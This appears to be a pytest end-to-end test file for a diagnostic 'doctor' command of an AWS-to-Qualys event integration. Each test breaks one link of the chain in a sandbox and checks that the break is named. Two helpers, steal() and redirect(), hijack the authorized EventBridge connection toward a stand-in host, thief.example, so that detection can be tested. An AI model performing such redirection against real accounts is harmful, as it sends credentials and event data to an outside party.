"""The doctor names the broken link, whichever it is; and a synthetic event goes the way of a real one."""

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from sandbox.deployment import Replica
from tests.e2e.tenant import OBJECT
from tests.e2e.user import User
from zerotouch.aws.policy import account_policy, simulate_policy
from zerotouch.cli.exits import Exit

NAME = "qualys-zerotouch"
REGION = "us-east-1"
OPT_IN = "af-south-1"
PAGE = Path(__file__).parents[2] / "docs/doctor.md"


@dataclass
class Patient:
    """An account that was set up from a file, with an instance that runs."""

    user: User
    account: str
    instance: str = ""
    spec: dict[str, Any] = field(default_factory=dict)

    def client(self, service: str) -> Any:
        return self.user.tenant.aws.client(service, self.account, REGION)

    def agent(self, **agent: Any) -> None:
        self.user.tenant.aws.set_agent(self.account, REGION, self.instance, **agent)

    def declare(self, **spec: Any) -> None:
        """Change the file, and not AWS."""
        self.user.write(self.account, **{**self.spec, **spec})

    def declare_a_region_that_is_not_enabled(self) -> None:
        self.user.tenant.aws.set_regions(self.account, [REGION])
        self.declare(regions={"names": [REGION, OPT_IN]})

    def policy_without(self, action: str) -> None:
        policy = account_policy("aws", self.account, NAME)
        for statement in policy["Statement"]:
            statement["Action"] = [a for a in statement["Action"] if a != action]
        # IAM takes no statement without an action.
        policy["Statement"] = [s for s in policy["Statement"] if s["Action"]]
        self.user.tenant.aws.set_policy(self.account, policy)

    def update_connection(self, header: str) -> None:
        self.client("events").update_connection(
            Name=NAME,
            AuthorizationType="API_KEY",
            AuthParameters={
                "ApiKeyAuthParameters": {"ApiKeyName": "X-API-KEY", "ApiKeyValue": "v"},
                "InvocationHttpParameters": {
                    "HeaderParameters": [{"Key": header, "Value": "v", "IsValueSecret": True}],
                },
            },
        )

    def steal(self) -> None:
        events = self.client("events")
        arn = events.describe_connection(Name=NAME)["ConnectionArn"]
        events.create_api_destination(
            Name="thief", ConnectionArn=arn, InvocationEndpoint="https://thief.example/", HttpMethod="POST"
        )

    def redirect(self) -> None:
        events = self.client("events")
        found = events.describe_api_destination(Name=NAME)
        known = {key: found[key] for key in ("Name", "Description", "ConnectionArn", "HttpMethod")}
        events.update_api_destination(**known, InvocationEndpoint="https://thief.example/qflow/aws-eb")

    def drop_association(self) -> None:
        ssm = self.client("ssm")
        (found,) = ssm.list_associations()["Associations"]
        ssm.delete_association(AssociationId=found["AssociationId"])

    def another_pattern(self) -> None:
        self.client("events").put_rule(Name=NAME, EventPattern='{"source": ["aws.ec2"]}', State="ENABLED")

    def fail_delivery(self) -> None:
        """An instance starts while the gateway refuses what it is told, for good."""
        self.user.tenant.qualys.add_fault("/qflow/aws-eb", "400", count=20)
        self.user.tenant.aws.start_instance(self.account, REGION)
        queue = self.client("sqs").get_queue_url(QueueName=f"{NAME}-dead-letters")["QueueUrl"]
        self.user.tenant.wait(lambda: self.letters(queue) > 0)

    def letters(self, queue: str) -> int:
        names = ["ApproximateNumberOfMessages"]
        answer = self.client("sqs").get_queue_attributes(QueueUrl=queue, AttributeNames=names)
        return int(answer["Attributes"][names[0]])


@dataclass(frozen=True)
class Break:
    """How one link is broken, what the doctor must name, and words of its evidence."""

    how: str
    link: str
    says: str
    act: Callable[[Patient], object]
    named: bool = False
    where: str = REGION


BREAKS = [
    Break(
        "another ExternalId is declared", "access", "AssumeRole", lambda p: p.declare(access={"externalID": "other"})
    ),
    Break(
        "the region is not enabled",
        "region",
        "not enabled",
        lambda p: p.declare_a_region_that_is_not_enabled(),
        where=OPT_IN,
    ),
    Break(
        "the role may not read the rule",
        "permissions",
        "events:DescribeRule",
        lambda p: p.policy_without("events:DescribeRule"),
    ),
    Break("the association is deleted", "inventory association", "there is no", lambda p: p.drop_association()),
    Break("the instance's agent is offline", "SSM agent", "offline since", lambda p: p.agent(ping="ConnectionLost")),
    Break("the instance is not managed", "SSM agent", "not managed by SSM", lambda p: p.agent(ping=None)),
    Break(
        "its inventory is old",
        "inventory freshness",
        "older than",
        lambda p: p.agent(inventory_age=1_000_000),
        named=True,
    ),
    Break(
        "its inventory was never collected",
        "inventory freshness",
        "never collected",
        lambda p: p.agent(inventory_age=None),
    ),
    Break(
        "its platform is not allowed",
        "platform",
        "not in spec.coverage.platforms",
        lambda p: p.declare(coverage={"platforms": [{"name": "Windows*"}], "gracePeriod": "0s"}),
        named=True,
    ),
    Break("the rule is disabled", "rule", "found DISABLED", lambda p: p.client("events").disable_rule(Name=NAME)),
    Break("the rule matches something else", "rule", "eventPattern", lambda p: p.another_pattern()),
    Break(
        "the rule has lost its target",
        "target",
        "targets.qualys",
        lambda p: p.client("events").remove_targets(Rule=NAME, Ids=["qualys"]),
    ),
    Break(
        "the role has lost its policy",
        "role",
        "inlinePolicies",
        lambda p: p.client("iam").delete_role_policy(RoleName=f"{NAME}-events", PolicyName="invoke-qualys"),
    ),
    Break("the API destination leads elsewhere", "API destination", "thief.example", lambda p: p.redirect()),
    Break("another API destination uses the connection", "API destination", "thief", lambda p: p.steal()),
    Break("the connection sends another header", "connection", "headers", lambda p: p.update_connection("X-Other")),
    Break(
        "the connection is de-authorized",
        "connection",
        "DEAUTHORIZED",
        lambda p: p.client("events").deauthorize_connection(Name=NAME),
    ),
    Break("the gateway refuses events", "delivery", "dead letters wait", lambda p: p.fail_delivery()),
]


@pytest.fixture
def patient(user: User) -> Patient:
    """Set up by the command itself; its instance is past the time within which it need not report."""
    found = Patient(
        user, user.tenant.account(), spec={"regions": {"names": [REGION]}, "coverage": {"gracePeriod": "0s"}}
    )
    found.declare()
    user.run("apply", "-f", user.file, "--once", "--yes", status=0, **user.mint_by())
    found.instance = user.tenant.aws.start_instance(found.account, REGION)
    user.tenant.qualys.wait_for_event(lambda event: event["instance"] == found.instance)
    return found


def examined(patient: Patient, *arguments: str, status: int) -> dict[str, Any]:
    output = patient.user.run("doctor", "-f", patient.user.file, *arguments, "-o", "json", status=status)
    (found,) = json.loads(output)
    return found  # type: ignore[no-any-return]


def test_a_healthy_chain_has_no_broken_link(patient: Patient) -> None:
    writes = len(patient.user.writes(patient.account))
    found = examined(patient, patient.account, REGION, patient.instance, status=0)
    assert found["firstBroken"] is None
    answers = {link["name"]: link["answer"] for link in found["links"]}
    assert [name for name, answer in answers.items() if answer == "broken"] == []
    assert answers["delivery"] == answers["instance"] == answers["SSM agent"] == "good"
    assert len(patient.user.writes(patient.account)) == writes
    text = patient.user.run("doctor", "-f", patient.user.file, status=0)
    assert text.endswith("No link is broken.\n")


@pytest.mark.parametrize("case", BREAKS, ids=lambda case: case.how)
def test_the_broken_link_is_named(patient: Patient, case: Break) -> None:
    case.act(patient)
    place = [patient.account, case.where, *([patient.instance] if case.named else [])]
    try:
        found = examined(patient, *place, status=Exit.NOT_RIGHT)
    finally:
        patient.user.tenant.qualys.clear()
    broken = next(link for link in found["links"] if link["answer"] == "broken")
    assert (found["firstBroken"], broken["name"]) == (case.link, case.link), found
    assert case.says in broken["evidence"]
    assert broken["mend"]


def test_an_instance_that_does_not_run_is_told(patient: Patient) -> None:
    found = examined(patient, patient.account, REGION, "i-0123456789abcdef0", status=Exit.NOT_RIGHT)
    assert found["firstBroken"] == "instance"


def test_the_table_in_the_docs_is_that_of_these_tests() -> None:
    rows = re.findall(r"^\| (.+?) \| (.+?) \|$", PAGE.read_text(), re.MULTILINE)
    assert rows[1:] == [(case.how, case.link) for case in BREAKS]


def test_with_a_cluster_the_object_itself_is_a_link(operator: Replica, user: User) -> None:
    tenant = user.tenant
    account = tenant.account()
    tenant.credentials()
    tenant.apply(account, interval="1h", regions={"names": [REGION]})
    tenant.ready()
    kube = ["--kubeconfig", str(tenant.world.kubeconfig), "-n", tenant.namespace]
    assert user.run("doctor", *kube, account, status=0).endswith("No link is broken.\n")
    tenant.patch({"suspend": True})
    text = user.run("doctor", "--name", OBJECT, *kube, status=Exit.NOT_RIGHT)
    assert "First broken link: object: spec.suspend is true" in text
    assert user.result("doctor", "--name", "nobody", *kube).returncode == Exit.NOT_FOUND
    # What is suspended would not be cleaned either.
    tenant.patch({"suspend": False})


def test_nothing_is_sent_without_a_yes(patient: Patient) -> None:
    before = patient.user.tenant.qualys.events()
    text = patient.user.run("simulate", "-f", patient.user.file, patient.account, REGION, status=Exit.REFUSED)
    assert f"as POST {patient.user.tenant.world.gateway_url}/qflow/aws-eb" in text
    assert "the rule qualys-zerotouch-simulate would be made for it and deleted again" in text
    assert patient.user.tenant.qualys.events() == before


def simulated(patient: Patient, *arguments: str, status: int) -> dict[str, Any]:
    more = ("--yes", "--settle", "0", "--wait", "30", "-o", "json")
    output = patient.user.run(
        "simulate", "-f", patient.user.file, patient.account, REGION, *more, *arguments, status=status
    )
    return json.loads(output)  # type: ignore[no-any-return]


def allow_simulation(patient: Patient) -> None:
    policy, more = account_policy("aws", patient.account, NAME), simulate_policy("aws", patient.account, NAME)
    statements = [*policy["Statement"], *more["Statement"]]
    patient.user.tenant.aws.set_policy(patient.account, {**policy, "Statement": statements})


def test_a_synthetic_event_reaches_the_gateway_and_leaves_nothing(patient: Patient) -> None:
    allow_simulation(patient)
    held = patient.user.tenant.held(patient.account)
    outcome = simulated(patient, status=0)
    assert (outcome["ruleMatches"], outcome["delivered"]) == (True, True)
    event = patient.user.tenant.qualys.wait_for_event(lambda e: e["account"] == patient.account and not e["instance"])
    assert event["region"] == REGION
    assert patient.user.tenant.held(patient.account) == held


def test_a_synthetic_event_that_is_refused_is_told(patient: Patient) -> None:
    allow_simulation(patient)
    held = patient.user.tenant.held(patient.account)
    patient.client("events").disable_rule(Name=NAME)
    patient.user.tenant.qualys.add_fault("/qflow/aws-eb", "400", count=5)
    try:
        outcome = simulated(patient, status=Exit.NOT_RIGHT)
    finally:
        patient.user.tenant.qualys.clear()
    assert (outcome["ruleMatches"], outcome["delivered"]) == (False, False)
    assert patient.user.tenant.held(patient.account) == held


def test_the_operators_own_rights_do_not_suffice_to_simulate(patient: Patient) -> None:
    arguments = ("simulate", "-f", patient.user.file, patient.account, REGION, "--yes", "--settle", "0")
    result = patient.user.result(*arguments)
    assert result.returncode == Exit.AWS_ERROR
    assert "zerotouch policy simulate" in result.stderr
